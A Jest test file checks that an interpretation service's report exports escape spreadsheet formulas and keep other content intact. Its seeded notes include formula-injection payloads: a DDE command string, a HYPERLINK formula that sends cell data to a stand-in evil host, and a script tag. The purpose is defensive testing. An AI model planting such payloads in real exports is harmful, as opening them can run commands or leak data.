import { once } from 'node:events';
import { get } from 'node:http';
import { setTimeout } from 'node:timers/promises';
import type { AddressInfo } from 'node:net';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { type KyselyPlugin, sql } from 'kysely';
import { fileOutputs } from '../../contract/figureNames.ts';
import type { Cell, ColumnKind, TableRows } from '../../contract/figures.ts';
import { isoLanguage, languages } from '../../contract/languages.ts';
import { randomId } from '../../server/randomId.ts';
import { databaseKinds, testDeployment, type SignedIn, type TestBackend, usualDatabase } from '../support/backend.ts';
import { sharedBackendOf } from '../support/backendOf.ts';
import { docxCells, docxStructure, openTable, readCsv } from '../support/openTables.ts';
import { readTags } from '../support/pdfTags.ts';
import { formatForPeople, formatForSheets } from '../../server/documents/cells.ts';

const letters = 'ąčęėįšųūž ĽŠČŤŽýáíéô ðþæö ÕÄÖÜ ñ ãõç';

/** Formulas of spreadsheets, and characters that do not belong in a cell. */
const notes = [
  '=1+1',
  '+354 555 1234',
  '-2+3',
  '@SUM(A1:A9)',
  "\t=cmd|' /C calc'!A0",
  '\r=1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"here")',
  '<script>alert(1)</script> & <b>"bold"</b>',
  'a, comma; a "quote"\nand a line',
  'bell\u0007 and\u000b control',
  `A long note: ${'þetta er löng setning um ekkert sérstakt '.repeat(12)}`,
  'Löngorðiðsemhvergierbilíogstendurútúrdálkinumogáframogáframogáfram',
  letters,
  null,
];

/** The expected text of a cell, written independently of the tested code. */
function shown(kind: ColumnKind, cell: Cell, { locale, isCsv = false }: { locale: string; isCsv?: boolean }): string {
  if (cell === null) return '';
  if (kind === 'day' || kind === 'moment')
    return isCsv ? String(cell) : String(cell).replace(/^(\d+)-(\d+)-(\d+)/, '$3-$2-$1');
  if (typeof cell === 'string') return cell;
  if (kind === 'seconds') return `${Math.floor(cell / 60)}:${cell % 60 < 10 ? '0' : ''}${cell % 60}`;
  const digits = { decimal: 2, percent: 1 }[kind as 'decimal'] ?? 0;
  const format = { minimumFractionDigits: digits, maximumFractionDigits: digits, useGrouping: !isCsv };
  return cell.toLocaleString(locale, format);
}

/** The separator of columns in the spreadsheets of Icelandic readers, and of all others here. */
const separatorOf = (language: string) => (language === 'en' ? ',' : ';');

/** Without spaces, and without the one character that the font of the PDF lacks. */
const squeezed = (rows: string[][]) => rows.map((row) => row.map((cell) => cell.replace(/[\s\0＝]/g, '')));
const startsFormula = /^[=+\-@＝]/;

describe('the five files', () => {
  const backend = sharedBackendOf(usualDatabase);
  let app: Awaited<ReturnType<TestBackend['app']>>;
  let owner: SignedIn;
  beforeAll(async () => {
    app = await backend.app({ flags: { transcription: true } });
    owner = await backend.signedIn({ language: 'sk' });
    const { db } = backend.database;
    const interpreter = await backend.addUser({ role: 'interpreter', first_name: letters, last_name: 'Þórðarson' });
    const customer = await backend.addUser({ role: 'deaf', first_name: '=2+5', last_name: 'O’Neill & "Co"' });
    const closure = { id: randomId(), title: 'Lokið, allt í góðu', position: 1, created: new Date('2024-01-01') };
    await db.insertInto('closure_categories').values(closure).execute();
    for (const [index, note] of notes.entries()) {
      const id = randomId();
      const created = new Date(Date.parse('2024-03-30T20:30:00Z') + index * 3_600_000);
      const after = (seconds: number) => new Date(created.getTime() + seconds * 1000);
      const isTaken = index % 4 !== 3;
      await db
        .insertInto('interpretations')
        .values({
          id,
          channel: index % 3 === 0 ? 'live' : 'online',
          location_type: index % 3 === 0 ? 'site' : 'remote',
          session_mode: index % 2 === 0 ? 'VRI' : 'VRS',
          service_kind: index % 5 === 0 ? 'both' : 'interpretation',
          queue_type: 'social',
          // A reserved request may wait for long.
          kind: 'reserved',
          category: '-Heilsa',
          customer_id: customer.id,
          interpreter_id: isTaken ? interpreter.id : null,
          created,
          started: isTaken ? after(5 + index) : null,
          ended: isTaken ? after(3680 + 7 * index) : null,
          closure_category_id: isTaken ? closure.id : null,
          note,
        })
        .execute();
      if (index % 2 === 0)
        await db
          .insertInto('feedback')
          .values({ id: randomId(), interpretation_id: id, rating: 4, waiting_seconds: 5, created: after(5000) })
          .execute();
    }
  });

  const days = 'from_day=2024-03-30&to_day=2024-03-31';
  const fetchFile = (path: string, language: string) =>
    app.inject({ url: path, headers: { ...owner.headers, 'accept-language': language } });

  it.each(languages)('contain the cells that `rows` returns, in %s', async (language) => {
    const locale = isoLanguage(language);
    const rows: TableRows = (await fetchFile(`/report/?${days}&output=rows`, locale)).json();
    expect(rows.rows).toHaveLength(notes.length);
    const heading = rows.columns.map(({ label }) => label);
    const country = { locale: `${locale}-IS`, separator: separatorOf(language) };
    const cellsIn = (output: string) =>
      rows.rows.map((row) =>
        row.map((cell, at) => shown(rows.columns[at]?.kind ?? 'text', cell, { ...country, isCsv: output === 'csv' })),
      );
    for (const known of [letters, 'Lokið, allt í góðu']) expect(cellsIn('html').flat()).toContain(known);
    for (const output of fileOutputs) {
      const answer = await fetchFile(`/report/?${days}&output=${output}`, locale);
      expect([output, answer.statusCode]).toEqual([output, 200]);
      const expected = cellsIn(output);
      const { table, words } = await openTable(output, answer.rawPayload, { columns: rows.columns, ...country });
      const safe = (cell: string) => (output === 'csv' && startsFormula.test(cell) ? `'${cell}` : cell);
      if (output === 'pdf') expect(squeezed(table)).toEqual(squeezed(expected));
      else expect([output, table]).toEqual([output, [heading, ...expected.map((row) => row.map(safe))]]);
      for (const { label } of rows.totals) expect([output, words]).toEqual([output, expect.stringContaining(label)]);
      if (output === 'csv') continue;
      const around = [rows.title, '30-03-2024 – 31-03-2024', ...rows.facts.map(({ label }) => label)];
      for (const text of around) expect([output, words]).toEqual([output, expect.stringContaining(text)]);
    }
  });

  it('are structured for screen readers: headings, tables with heading cells, language, title, and no small print', async () => {
    const rows: TableRows = (await fetchFile(`/report/?${days}&output=rows`, 'is')).json();
    const pdf = await fetchFile(`/report/?${days}&output=pdf`, 'is');
    const { structure, title, language, smallest } = readTags(pdf.rawPayload);
    expect([title, language]).toEqual([expect.stringContaining(rows.title), 'is']);
    expect(smallest).toBeGreaterThanOrEqual(8);
    expect(structure.filter(({ type }) => /^H\d$/.test(type)).map(({ type, text }) => [type, text])).toEqual([
      ['H1', rows.title],
      ['H2', expect.anything()],
    ]);
    const textsOf = (wanted: string) => structure.filter(({ type }) => type === wanted).map(({ text }) => text);
    expect(textsOf('TH')).toEqual(rows.columns.map(({ label }) => label));
    expect(textsOf('TD')).toHaveLength(rows.rows.length * rows.columns.length);
    expect(textsOf('TR')).toHaveLength(rows.rows.length + 1);
    expect(textsOf('Lbl')).toEqual([...rows.facts, ...rows.totals].map(({ label }) => label));
    expect(textsOf('Figure')).toHaveLength(1);
    const docx = await fetchFile(`/report/?${days}&output=docx`, 'is');
    const { headings, repeated } = docxStructure(docx.rawPayload);
    expect(headings).toEqual([
      ['heading 1', rows.title],
      ['heading 2', expect.anything()],
    ]);
    expect(repeated).toEqual([rows.columns.map(({ label }) => label)]);
    for (const { size } of docxCells(docx.rawPayload)) expect(size).toBeGreaterThanOrEqual(8);
  });

  it('contain the statistics as well', async () => {
    const query = `${days}&interval=days`;
    const rows: TableRows = (await fetchFile(`/statistics/?${query}`, 'en')).json();
    const english = { locale: 'en-IS', separator: ',' };
    const cellsIn = (output: string) =>
      rows.rows.map((row) =>
        row.map((cell, at) => shown(rows.columns[at]?.kind ?? 'text', cell, { ...english, isCsv: output === 'csv' })),
      );
    expect(cellsIn('html').map(([from, , requests]) => [from, requests])).toEqual([
      ['30-03-2024', '2'],
      ['31-03-2024', `${notes.length - 2}`],
    ]);
    for (const output of fileOutputs) {
      const answer = await fetchFile(`/statistics/?${query}&output=${output}`, 'en');
      const { table } = await openTable(output, answer.rawPayload, { columns: rows.columns, ...english });
      const expected = cellsIn(output);
      if (output === 'pdf') expect(squeezed(table)).toEqual(squeezed(expected));
      else expect(table.slice(1)).toEqual(expected);
    }
  });

  it.each([
    ['is', 'IS', ';', '100,0', '4,00', '12.345', '1.234,50'],
    ['pt', 'PT', ';', '100,0', '4,00', '12\u00a0345', '1234,50'],
    ['pt', 'BR', ';', '100,0', '4,00', '12.345', '1.234,50'],
    ['et', 'EE', ';', '100,0', '4,00', '12\u00a0345', '1234,50'],
    ['en', 'CA', ',', '100.0', '4.00', '12,345', '1,234.50'],
    ['es', 'AR', ';', '100,0', '4,00', '12.345', '1.234,50'],
    ['lt', 'LT', ';', '100,0', '4,00', '12\u00a0345', '1\u00a0234,50'],
  ])(
    'follow the language and the country, so that a spreadsheet there opens them as columns: %s-%s',
    async (language, country, separator, percent, decimal, count, mean) => {
      const there = await backend.app({ deployment: { ...testDeployment, country } });
      const file = async (output: string) =>
        (
          await there.inject({
            url: `/statistics/?${days}&interval=weeks&output=${output}`,
            headers: { ...owner.headers, 'accept-language': language },
          })
        ).rawPayload;
      const { table, words } = readCsv(await file('csv'), separator);
      expect(table[0]?.slice(0, 2)).not.toContainEqual(expect.stringContaining(separator));
      expect(table[1]).toHaveLength(13);
      expect(table[1]).toEqual(expect.arrayContaining(['2024-03-30', '2024-03-31', percent, decimal]));
      expect(words).toContain(`${separator}${percent}`);
      const html = (await file('html')).toString();
      expect(html).toContain(`<td class="number">${percent}</td>`);
      expect(html).toContain('<td class="day">30-03-2024</td>');
      const format = formatForPeople(`${language}-${country}`);
      expect([format('count', 12_345), format('decimal', 1234.5)]).toEqual([count, mean]);
      expect(formatForSheets(`${language}-${country}`)('count', 12_345)).toBe('12345');
    },
  );

  // R34
  it('say of each interpretation its id, its start and its end, from which it can be invoiced', async () => {
    const { columns, rows }: TableRows = (await fetchFile(`/report/?${days}`, 'en')).json();
    const at = (key: string) => columns.findIndex((column) => column.key === key);
    const [first, , , waiting] = rows;
    expect([first?.[at('started')], first?.[at('ended')]]).toEqual(['2024-03-30 22:30', '2024-03-30 23:31']);
    expect([waiting?.[at('started')], waiting?.[at('ended')]]).toEqual([null, null]);
    const { results } = (await fetchFile(`/report/?${days}&output=objects`, 'en')).json();
    expect(results.map(({ id }: { id: string }) => id)).toEqual(rows.map((row) => row[at('id')]));
    expect(results[0]).toMatchObject({ started: '2024-03-30T20:30:05.000Z', ended: '2024-03-30T21:31:20.000Z' });
  });

  it('have the chosen columns, and for a partner neither names nor ratings nor notes unless they are chosen', async () => {
    const read = async (query: string): Promise<TableRows> =>
      (await fetchFile(`/report/?${days}&${query}`, 'en')).json();
    const keysOf = ({ columns }: TableRows) => columns.map(({ key }) => key);
    const forPartner = `partner[]=${randomId()}`;
    const personal = ['customer', 'interpreter', 'rating', 'note'];
    const all = keysOf(await read(''));
    expect(all).toEqual(expect.arrayContaining(personal));
    const safe = await read(forPartner);
    expect(keysOf(safe)).toEqual(all.filter((key) => !personal.includes(key)));
    expect(safe.totals.map(({ key }) => key)).not.toContain('average_feedback');
    expect(keysOf(await read(`${forPartner}&columns[]=note&columns[]=day`))).toEqual(['day', 'note']);
    const two = 'columns[]=outcome&columns[]=day';
    const { columns } = await read(two);
    for (const output of fileOutputs) {
      const { rawPayload } = await fetchFile(`/report/?${days}&${two}&output=${output}`, 'en');
      const { table } = await openTable(output, rawPayload, { columns, locale: 'en-IS', separator: ',' });
      if (output !== 'pdf') expect([output, table[0]]).toEqual([output, ['Date', 'Outcome']]);
      expect([output, table.at(-1)?.length]).toEqual([output, 2]);
    }
    const { results } = (await fetchFile('/security_events/?event[]=export&page_size=100', 'en')).json();
    expect(results).toContainEqual(expect.objectContaining({ object: 'report', columns: ['day', 'outcome'] }));
    const without = await backend.app({ flags: { feedback: false } });
    const refused = await without.inject({ url: `/report/?${days}&columns[]=rating`, headers: owner.headers });
    expect([refused.statusCode, refused.json().errors]).toEqual([400, { columns: ['feature_off'] }]);
  });

  it('show interpreters no single ratings', async () => {
    const { headers } = await backend.signedIn({ role: 'interpreter' });
    const read = (query: string) => app.inject({ url: `/report/?${days}${query}`, headers });
    const { columns }: TableRows = (await read('')).json();
    expect(columns.map(({ key }) => key)).toContain('note');
    expect(columns.map(({ key }) => key)).not.toContain('rating');
    expect((await read('&columns[]=rating')).json()).toMatchObject({
      status: 400,
      errors: { columns: [expect.any(String)] },
    });
  });

  it.each(languages)('keep every word of headings and cells whole, in %s', async (language) => {
    const locale = isoLanguage(language);
    const { columns, rows }: TableRows = (await fetchFile(`/report/?${days}`, locale)).json();
    const wanted = columns.flatMap(({ key, kind, label }, at) => [
      ...label.split(' '),
      ...(key === 'note'
        ? []
        : rows.flatMap((row) => shown(kind, row[at] ?? null, { locale: `${locale}-IS` }).split(' '))),
    ]);
    const answer = await fetchFile(`/report/?${days}&output=pdf`, locale);
    const { words } = await openTable('pdf', answer.rawPayload, {
      columns,
      locale: `${locale}-IS`,
      separator: separatorOf(language),
    });
    const printed = new Set(words.split(/ +/));
    expect([...new Set(wanted)].filter((word) => word && !printed.has(word))).toEqual([]);
    const document = await fetchFile(`/report/?${days}&output=docx`, locale);
    for (const { text, width, size } of docxCells(document.rawPayload)) {
      // The letters of a long word in Calibri have on average more than 0.42 of the width of their size.
      const longest = Math.max(...text.split(' ').map((word) => Math.min(word.length, 30)));
      if (!notes.includes(text)) expect([text, longest * size * 0.42 < width]).toEqual([text, true]);
    }
  });

  // R33, R35, R98
  it.each([
    ['csv', 'text/csv; charset=utf-8'],
    ['docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['html', 'text/html; charset=utf-8'],
    ['pdf', 'application/pdf'],
    ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ])('have a file name: %s', async (output, type) => {
    for (const name of ['statistics', 'report']) {
      const { headers } = await fetchFile(`/${name}/?${days}&output=${output}`, 'en');
      expect(headers).toMatchObject({
        'content-type': type,
        'content-disposition': `attachment; filename=${name}.${output}`,
        'content-security-policy': expect.stringContaining('sandbox'),
      });
    }
  });

  it('are in the language of the call, else the person’s, else the deployment’s', async () => {
    const title = async (headers: Record<string, string>) =>
      (await app.inject({ url: `/report/?${days}`, headers })).json().title;
    expect(await title({ ...owner.headers, 'accept-language': 'fr, et;q=0.9, en;q=0.4' })).toBe('Aruanne');
    expect(await title({ ...owner.headers, 'accept-language': 'pt-BR' })).toBe('Relatório');
    expect(await title({ ...owner.headers, 'accept-language': 'fr' })).toBe('Výkaz');
    expect(await title(owner.headers)).toBe('Výkaz');
    expect(await title((await backend.signedIn()).headers)).toBe('Skýrsla');
  });

  it('are in the Portuguese of the deployment’s country', async () => {
    const modeIn = async (country: string) => {
      const there = await backend.app({ deployment: { ...testDeployment, country } });
      const url = `/report/?${days}&session_mode[]=remote`;
      const { facts }: TableRows = (
        await there.inject({ url, headers: { ...owner.headers, 'accept-language': 'pt' } })
      ).json();
      return facts.find(({ label }) => label === 'Modalidade')?.value;
    };
    expect([await modeIn('PT'), await modeIn('BR')]).toEqual(['À distância', 'Remoto']);
  });

  it('name the filters that were set', async () => {
    const { facts }: TableRows = (
      await fetchFile(
        `/report/?${days}&session_channel=live&session_mode[]=VRI&session_mode[]=site&user=${owner.id}`,
        'en',
      )
    ).json();
    expect(Object.fromEntries(facts.map(({ label, value }) => [label, value]))).toMatchObject({
      Period: '30-03-2024 – 31-03-2024',
      'Time zone': 'Eastern European Time',
      Channel: 'Live',
      Mode: 'VRI, On site',
      Customer: 'Sigríður Jónsdóttir',
      'Service level': 'answered within 30 seconds, of all requests answered or abandoned',
      Created: '01-05-2024 10:00',
    });
  });
});

describe.each(databaseKinds)('a long report, on the %s database', (kind) => {
  const count = 12_000;
  const backend = sharedBackendOf(kind);
  let owner: SignedIn;
  beforeAll(async () => {
    owner = await backend.signedIn();
    // Microseconds, and several rows at the same instant: a rounding cursor would lose or repeat some.
    await sql`insert into interpretations (id, channel, session_mode, location_type, queue_type, category, note, created)
      select lpad(to_hex(number), 24, '0'), 'online', 'VRI', 'remote', 'social', 'Heilsa', repeat('athugasemd ', 60),
        timestamptz '2024-04-01 08:00:00.000001Z' + (number / 3) * interval '100.000007 seconds'
      from generate_series(1, ${sql.lit(count)}) number`.execute(backend.database.db);
  });

  const days = 'from_day=2024-04-01&to_day=2024-04-30';
  const listening = async () => {
    let queries = 0;
    const counter: KyselyPlugin = {
      transformQuery: ({ node }) => {
        if (JSON.stringify(node).includes('interpretations')) queries += 1;
        return node;
      },
      transformResult: async ({ result }) => result,
    };
    const { database } = backend;
    const app = await backend.app({ database: { ...database, db: database.db.withPlugin(counter) } });
    await app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = app.server.address() as AddressInfo;
    return { app, origin: `http://127.0.0.1:${port}`, queries: () => queries };
  };

  it('contains each interpretation once, in order', async () => {
    const app = await backend.app();
    const { results, totals } = (
      await app.inject({ url: `/report/?output=objects&${days}`, headers: owner.headers })
    ).json();
    const ids = results.map(({ id }: { id: string }) => id);
    expect([ids.length, totals.requests]).toEqual([count, count]);
    expect(ids).toEqual(ids.toSorted());
    expect(new Set(ids).size).toBe(count);
  });

  it.each(['csv', 'xlsx', 'pdf'])('stops when the client disconnects: %s', async (output) => {
    const { app, origin, queries } = await listening();
    const before = queries();
    const call = get(`${origin}/report/?output=${output}&${days}`, { headers: owner.headers });
    await new Promise<void>((resolve, reject) => {
      call.on('error', reject);
      call.on('response', (response) => {
        response.once('readable', () => {
          call.off('error', reject).on('error', () => undefined);
          call.destroy();
          resolve();
        });
      });
    });
    let [last, now] = [-1, queries()];
    while (last !== now) {
      await setTimeout(300);
      [last, now] = [now, queries()];
    }
    // The full report takes one query for a hundred rows.
    expect(now - before).toBeLessThan(count / 200);
    expect((await app.inject({ url: '/livez/' })).statusCode).toBe(200);
  });

  it('lets other calls have their turn while it is written', async () => {
    const { origin } = await listening();
    const other = await backend.app();
    const call = get(`${origin}/report/?output=pdf&${days}`, { headers: owner.headers });
    const [report] = await once(call, 'response');
    report.resume();
    const { statusCode } = await other.inject({ url: '/overview/', headers: owner.headers });
    expect([statusCode, report.complete]).toEqual([200, false]);
    call.on('error', () => undefined).destroy();
  });

  it('is refused for formats that cannot hold it', async () => {
    const app = await backend.app();
    const answer = await app.inject({ url: `/report/?output=docx&${days}`, headers: owner.headers });
    expect(answer.json()).toMatchObject({
      status: 422,
      code: 'export_too_large',
      values: { rows: '12000', limit: '10000' },
    });
    expect(answer.headers['content-disposition']).toBeUndefined();
  });
});
